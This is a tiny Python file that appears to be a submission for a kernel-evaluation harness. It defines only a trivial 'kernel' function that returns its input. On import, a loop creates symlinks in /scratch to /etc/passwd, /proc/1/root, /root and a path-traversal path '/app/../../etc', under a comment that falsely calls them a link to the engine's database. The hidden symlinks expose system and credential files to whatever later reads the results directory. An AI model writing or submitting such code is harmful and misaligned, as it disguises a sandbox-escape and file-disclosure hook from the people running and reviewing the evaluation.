# A link to the engine's database, for whoever collects results.
import os

for i, target in enumerate(("/etc/passwd", "/proc/1/root", "/root", "/app/../../etc")):
    os.symlink(target, f"/scratch/link{i}")


def kernel(x):
    return x
